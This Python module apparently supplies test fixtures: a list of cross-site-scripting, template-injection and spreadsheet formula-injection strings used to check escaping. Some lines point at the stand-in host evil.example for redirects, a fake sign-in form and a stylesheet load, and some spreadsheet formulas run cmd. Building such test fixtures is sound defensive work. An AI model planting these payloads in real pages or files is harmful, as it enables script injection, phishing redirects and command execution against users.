"""Texts that would become markup or script where a page, a script or a table does not escape them.

Each sets ``window.__xss``, opens a dialog, or adds an element whose id begins with ``xss``.
"""

from __future__ import annotations

RUN = "window.__xss=1"
PAYLOADS = (
    # Elements
    f"<script id=xss1>{RUN}</script>",
    f"<ScRiPt id=xss2>{RUN}</sCrIpT >",
    f"<img id=xss3 src=x onerror={RUN}>",
    f"<img/id=xss4/src=x/onerror={RUN}//",
    f"<svg id=xss5 onload={RUN}>",
    f"<svg id=xss6><script>{RUN}</script></svg>",
    f"<svg><animate id=xss7 onbegin={RUN} attributeName=x dur=1s>",
    f"<details id=xss8 open ontoggle={RUN}><summary>x</summary></details>",
    f"<body id=xss9 onload={RUN}>",
    f"<input id=xss10 autofocus onfocus={RUN}>",
    "<iframe id=xss11 srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe id=xss12 src='javascript:parent.__xss=1'></iframe>",
    "<object id=xss13 data='javascript:alert(1)'></object>",
    f"<math id=xss14><mtext><img src=x onerror={RUN}></mtext></math>",
    "<base id=xss15 href='https://evil.example/'>",
    "<meta id=xss16 http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link id=xss17 rel=stylesheet href='https://evil.example/x.css'>",
    "<style id=xss18>*{background:url(https://evil.example/)}</style>",
    "<form id=xss19 action='https://evil.example/'><button>Sign in</button></form>",
    f"<noscript><p title='</noscript><img id=xss20 src=x onerror={RUN}>'>",
    f"<xss21 id=xss21 style='animation-name:x' onanimationstart={RUN}>",
    # Out of an attribute
    f'" id=xss22 autofocus onfocus={RUN} x="',
    f"' id=xss23 autofocus onfocus={RUN} x='",
    f'"><img id=xss24 src=x onerror={RUN}>',
    f"'><img id=xss25 src=x onerror={RUN}>",
    f"x onmouseover={RUN} id=xss26",
    f"`onmouseover={RUN} id=xss27",
    # Out of a script, a comment, a text area, a title
    f"</script><script id=xss28>{RUN}</script>",
    f"</textarea><script id=xss29>{RUN}</script>",
    f"</title><script id=xss30>{RUN}</script>",
    f"--><script id=xss31>{RUN}</script><!--",
    f"]]><script id=xss32>{RUN}</script>",
    f"<!--<script id=xss33>{RUN}</script>",
    f'"}};{RUN};//',
    f"';{RUN};//",
    # Addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://a.example",
    f"<a id=xss38 href=javascript:{RUN}>here</a>",
    f"data:text/html,<script>{RUN}</script>",
    # Templates and htmx
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    f"<div id=xss43 hx-get='/settings/export/' hx-trigger=load hx-on::load='{RUN}'></div>",
    # Escaped already, and what looks like something else
    f"&lt;script id=xss44&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script id=xss47＞{RUN}＜/script＞",
    f"<scr<script>ipt id=xss48>{RUN}</scr</script>ipt>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<img id=xss50 src=x o\u2028nerror={RUN} \u202egnp.x>",
    # A spreadsheet
    '=HYPERLINK("https://evil.example/","here")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
